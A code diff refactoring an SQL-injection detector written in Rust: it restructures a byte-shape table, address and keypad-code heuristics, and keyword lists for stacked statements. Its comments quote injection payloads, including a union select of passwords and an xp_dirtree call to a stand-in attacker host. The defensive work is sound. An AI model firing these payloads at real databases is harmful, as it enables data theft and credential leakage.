@@ -227,35 +227,29 @@ const SHAPE_CSS: u8 = 1;
 const SHAPE_TOKEN: u8 = 2;
 const SHAPE_ARITH: u8 = 4;
 const SHAPE_BYTES: [u8; 256] = {
-    let mut t = [0u8; 256];
-    let mut c = 0;
-    while c < 256 {
-        let b = c as u8;
-        if b.is_ascii_alphanumeric() {
-            t[c] = SHAPE_CSS | SHAPE_TOKEN | SHAPE_ARITH;
-        }
-        c += 1;
-    }
-    let mut i = 0;
-    let css = b" \t\n\r#%(),.+-*/";
-    while i < css.len() {
-        t[css[i] as usize] |= SHAPE_CSS;
-        i += 1;
-    }
-    i = 0;
-    let token = b"!@#$%^&*_.-:";
-    while i < token.len() {
-        t[token[i] as usize] |= SHAPE_TOKEN;
-        i += 1;
-    }
-    i = 0;
-    let arith = b" \t\n\r+-*/%().,=";
-    while i < arith.len() {
-        t[arith[i] as usize] |= SHAPE_ARITH;
-        i += 1;
-    }
-    t
+    let all = SHAPE_CSS | SHAPE_TOKEN | SHAPE_ARITH;
+    let mut t = mark([0; 256], b"0123456789", all);
+    t = mark(
+        t,
+        b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
+        all,
+    );
+    // White space around the value: the CSS and arithmetic rules trim it.
+    t = mark(t, b" \t\n\r", SHAPE_CSS | SHAPE_ARITH);
+    t = mark(t, css::SYMBOLS, SHAPE_CSS);
+    t = mark(t, token::SYMBOLS, SHAPE_TOKEN);
+    mark(t, arithmetic::SYMBOLS, SHAPE_ARITH)
 };
+
+/// `table` with `bit` added to each of `bytes`.
+const fn mark(mut table: [u8; 256], bytes: &[u8], bit: u8) -> [u8; 256] {
+    let mut i = 0;
+    while i < bytes.len() {
+        table[bytes[i] as usize] |= bit;
+        i += 1;
+    }
+    table
+}
 
 /// Which whole-value shapes `b`'s bytes allow (see [`SHAPE_BYTES`]).
 fn shapes(b: &[u8]) -> u8 {
@@ -333,20 +327,22 @@ fn ends_with_keypad_code(v: &str) -> Option<&[u8]> {
     let b = v.trim_end().as_bytes().strip_suffix(b"#")?;
     let digits = b.iter().rev().take_while(|c| c.is_ascii_digit()).count();
     let before = &b[..b.len() - digits];
-    ((1..=8).contains(&digits)
-        && before.ends_with(b" ")
-        && before.len() >= 2
-        && before[before.len() - 2].is_ascii_alphabetic()
-        && before[..before.len() - 1].contains(&b' ')
-        && words_only(before))
-    .then_some(before)
+    ((1..=8).contains(&digits) && words_before_code(before)).then_some(before)
 }
 
-/// Whether the text before a unit number or keypad code is words, not SQL:
-/// none of the SQL words that need no punctuation, no `=` (sqlmap's `1 where
-/// 4985=4985 order by 1#` ends like a keypad code).
-fn words_only(before: &[u8]) -> bool {
-    !before.contains(&b'=') && !has_bare_sql_word(before)
+/// Whether `before`, the text before a unit number or keypad code, is two
+/// words or more ending with a letter and a space (`123 Main St `, `use
+/// code `), and words, not SQL: none of the SQL words that need no
+/// punctuation, no `=` (sqlmap's `1 where 4985=4985 order by 1#` ends like
+/// a keypad code).
+fn words_before_code(before: &[u8]) -> bool {
+    let n = before.len();
+    n >= 2
+        && before[n - 1] == b' '
+        && before[n - 2].is_ascii_alphabetic()
+        && before[..n - 1].contains(&b' ')
+        && !before.contains(&b'=')
+        && !has_bare_sql_word(before)
 }
 
 /// Whether the value ends with a unit number after a word, as an address
@@ -371,11 +367,7 @@ fn ends_with_unit_number(v: &str) -> Option<&[u8]> {
             .count()
             <= 1
         && b[hash] == b'#'
-        && hash >= 2
-        && b[hash - 1] == b' '
-        && b[hash - 2].is_ascii_alphabetic()
-        && b[..hash - 1].contains(&b' ')
-        && words_only(&b[..hash]))
+        && words_before_code(&b[..hash]))
     .then_some(&b[..hash])
 }
 
@@ -497,11 +489,11 @@ fn waits(v: &str) -> bool {
             .iter()
             .any(|w| name.eq_ignore_ascii_case(w.as_bytes()))
     });
-    let mut words = b
-        .split(|c| !c.is_ascii_alphabetic())
-        .filter(|w| !w.is_empty());
     call || {
         let mut after_waitfor = false;
+        let mut words = b
+            .split(|c| !c.is_ascii_alphabetic())
+            .filter(|w| !w.is_empty());
         words.any(|w| {
             let wait = after_waitfor
                 && (w.eq_ignore_ascii_case(b"delay") || w.eq_ignore_ascii_case(b"time"));
@@ -517,17 +509,20 @@ fn waits(v: &str) -> bool {
 /// ...` but not every procedure call (`'; EXEC master..xp_dirtree
 /// '\\attacker.example\x'--` 0.70, `'; EXEC sp_configure ...` 0.26).
 fn stacks_a_statement(v: &str) -> bool {
-    const STARTS: [&[u8]; 9] = [
+    // A procedure call, a declaration, a copy or a grant names what it acts
+    // on (`exec;` alone, a word between two semicolons, is prose: a
+    // generated benign value had it); `SHUTDOWN` and `RECONFIGURE` stand
+    // alone.
+    const NAMING: [&[u8]; 7] = [
         b"exec",
         b"execute",
         b"declare",
-        b"shutdown",
         b"copy",
         b"grant",
         b"revoke",
         b"truncate",
-        b"reconfigure",
     ];
+    const ALONE: [&[u8]; 2] = [b"shutdown", b"reconfigure"];
     let b = v.as_bytes();
     if !b.contains(&b';') {
         return false;
@@ -543,14 +538,12 @@ fn stacks_a_statement(v: &str) -> bool {
             .take_while(|c| c.is_ascii_alphabetic())
             .count();
         let w = &rest[start..start + word];
-        // A procedure call, a declaration, a copy or a grant names what it
-        // acts on (`exec;` alone, a word between two semicolons, is prose:
-        // a generated benign value had it); `SHUTDOWN` and `RECONFIGURE`
-        // stand alone.
         let then = rest[start + word..].iter().find(|c| **c != b' ');
-        let named = matches!(then, Some(c) if c.is_ascii_alphanumeric() || matches!(c, b'@' | b'_' | b'[' | b'(' | b'"'));
-        STARTS.iter().any(|s| w.eq_ignore_ascii_case(s))
-            && (named || w.eq_ignore_ascii_case(b"shutdown") || w.eq_ignore_ascii_case(b"reconfigure"))
+        let named = then.is_some_and(|c| {
+            c.is_ascii_alphanumeric() || matches!(c, b'@' | b'_' | b'[' | b'(' | b'"')
+        });
+        let is = |list: &[&[u8]]| list.iter().any(|s| w.eq_ignore_ascii_case(s));
+        (named && is(&NAMING)) || is(&ALONE)
     })
 }
 
@@ -952,8 +945,8 @@ impl ValueDetector for SqliDetector {
         // `waits`); written in ways the training data lacks (table aliases:
         // `1 union select u.password from users u where u.id=1` scored
         // 0.68; a subquery as a list item, `x, (select password from
-        // users)`, 0.06) the model may miss them. Such a value is raised to just under certainty, so that
-        // the grammatical reading decides (`Credit Union Select Checking`
+        // users)`, 0.06) the model may miss them. Such a value is raised to
+        // just under certainty, so that the grammatical reading decides (`Credit Union Select Checking`
         // parses nowhere and is cleared). Prose the model is wrongly
         // certain of is lowered to the same score.
         let raised = score < GRAMMAR_DECIDES
